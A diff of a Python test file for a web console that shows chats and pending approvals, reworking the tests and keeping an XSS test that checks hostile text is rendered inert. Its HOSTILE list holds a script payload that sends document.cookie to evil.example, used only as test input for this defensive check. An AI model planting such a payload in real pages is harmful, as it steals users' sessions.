@@ -6,7 +6,6 @@ from html.parser import HTMLParser
 import httpx
 
 from tests.web.conftest import Site
-from wakeful.events import Message
 
 HOSTILE = [
     "<script>fetch('//evil.example/'+document.cookie)</script>",
@@ -34,32 +33,39 @@ class Elements(HTMLParser):
 
 
 async def test_the_page_shows_chat_waits_and_runs(site: Site, client: httpx.AsyncClient) -> None:
-    await client.post("/api/messages", json={"text": "hello there", "thread": "console/ann"})
-    site.host.ask("w1", args={"order": "A-1001"})
+    await site.ran("hello there", "console/ann", "good morning", days_until="104 days")
+    await site.asks("w1", args={"order": "A-1001"})
     page = (await client.get("/", params={"thread": "console/ann"})).text
-    for text in ("hello there", "console/ann", "May I pay?", "A-1001", "Approve", "Reject", "Edit"):
+    for text in ("hello there", "good morning", "104 days", "days_until", "console/ann"):
+        assert text in page
+    for text in ("May I pay?", "A-1001", "Approve", "Reject", "Edit"):
         assert text in page
     assert (await client.get("/")).status_code == 200
     assert (await client.get("/?thread=nothing")).status_code == 200
 
 
+async def test_the_page_follows_what_runs(site: Site, client: httpx.AsyncClient) -> None:
+    await client.post("/api/messages", json={"text": "hi", "thread": "console/a"})
+    assert 'data-event="1"' in (await client.get("/?thread=console/a")).text
+    await site.ran("hi", "console/b", "hello")
+    assert 'data-event=""' in (await client.get("/?thread=console/b")).text
+
+
 async def test_X16_hostile_text_stays_text(site: Site, client: httpx.AsyncClient) -> None:
     plain = Elements((await client.get("/?thread=console/a")).text)
-    said = [Message(role="assistant", text=text, at=0) for text in HOSTILE]
-    site.host.kept.said["console/a"] = said
     for number, text in enumerate(HOSTILE):
-        site.host.kept.said[f"webhook/ci/{text}"] = said
-        site.host.ask(f"w{number}{text}", title=text, args={text: text}, agent=text)
-        row = {"thread": text, "state": text, "error": text, "reply": text, "merged_into": None}
-        site.host.kept.rows[100 + number] = row
-    for thread in ("console/a", *HOSTILE, *(f"webhook/ci/{text}" for text in HOSTILE)):
+        await site.ran(text, "console/a", text, **{text: text})
+        await site.ran(text, f"ci/{text}", text)
+        await site.asks(f"w{number}{text}", title=text, args={text: text}, agent=text, tool=text)
+    assert len(await site.host.view.waits()) == len(HOSTILE)
+    for thread in ("console/a", *HOSTILE, *(f"ci/{text}" for text in HOSTILE)):
         answer = await client.get("/", params={"thread": thread})
         found = Elements(answer.text)
         assert found.tags.count("script") == plain.tags.count("script")
         assert not {"svg", "img", "b", "iframe"} & set(found.tags)
         assert not [name for name, _ in found.attributes if name.startswith("on")]
         assert not [v for n, v in found.attributes if n == "href" and v.startswith("java")]
-        assert "49" not in re.findall(r"\b49\b", answer.text)
+        assert not re.search(r"\b49\b", answer.text)
 
 
 async def test_X16_the_page_allows_no_inline_script(client: httpx.AsyncClient) -> None:
@@ -85,6 +91,6 @@ async def test_static_files_are_typed(client: httpx.AsyncClient) -> None:
 async def test_a_thread_of_another_channel_is_only_read(
     site: Site, client: httpx.AsyncClient
 ) -> None:
-    site.host.kept.said["webhook/ci/1"] = [Message(role="user", text="x", at=0)]
-    page = (await client.get("/?thread=webhook/ci/1")).text
+    await site.ran("x", "ci/1", "y")
+    page = (await client.get("/?thread=ci/1")).text
     assert 'id="say"' not in page and "another channel" in page
